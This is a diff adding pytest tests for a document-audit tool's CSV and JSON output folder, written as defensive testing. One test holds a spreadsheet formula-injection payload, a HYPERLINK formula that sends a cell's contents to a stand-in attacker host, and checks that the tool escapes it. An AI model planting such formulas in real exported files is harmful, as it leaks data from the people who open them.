@@ -1,0 +1,52 @@
+"""What --out writes: all of it, whole, and safe to open in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+
+from docaudit.errors import OutputError
+from docaudit.render import json as json_form
+from docaudit.render.folder import write_folder
+from tests.factories import absent, hit, not_established, spot
+
+
+def rows(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"))))
+
+
+def test_four_files_and_no_leftovers(tmp_path: Path) -> None:
+    justification = not_established()
+    written = write_folder(justification, tmp_path / "new" / "out")
+    assert sorted(p.name for p in (tmp_path / "new" / "out").iterdir()) == sorted(p.name for p in written)
+    assert json_form.read(written[0]) == justification
+    assert len(rows(tmp_path / "new" / "out" / "hits.csv")) == len(justification.hits)
+    spots = rows(tmp_path / "new" / "out" / "blind_spots.csv")
+    assert [int(row["page_num"]) for row in spots] == [s.page_num for s in justification.blind_spots]
+    assert all(row["meaning"] and row["remedy"] for row in spots)
+
+
+def test_tables_without_rows_still_have_their_columns(tmp_path: Path) -> None:
+    write_folder(absent(hits=(), blind_spots=()), tmp_path)
+    assert (
+        (tmp_path / "hits.csv")
+        .read_text("utf-8-sig")
+        .startswith("concept,variant,match_text,match_kind,page_num")
+    )
+    assert (tmp_path / "blind_spots.csv").read_text("utf-8-sig").count("\n") == 1
+
+
+def test_spreadsheets_get_no_formula(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.invalid/"&A1)'
+    write_folder(absent(hits=(hit(snippet=formula),), blind_spots=(spot(1, detail="@SUM(1)"),)), tmp_path)
+    assert rows(tmp_path / "hits.csv")[0]["snippet"] == "'" + formula
+    assert rows(tmp_path / "blind_spots.csv")[0]["detail"] == "'@SUM(1)"
+
+
+def test_a_place_that_cannot_be_written(tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("in the way")
+    with pytest.raises(OutputError):
+        write_folder(absent(), tmp_path / "file")
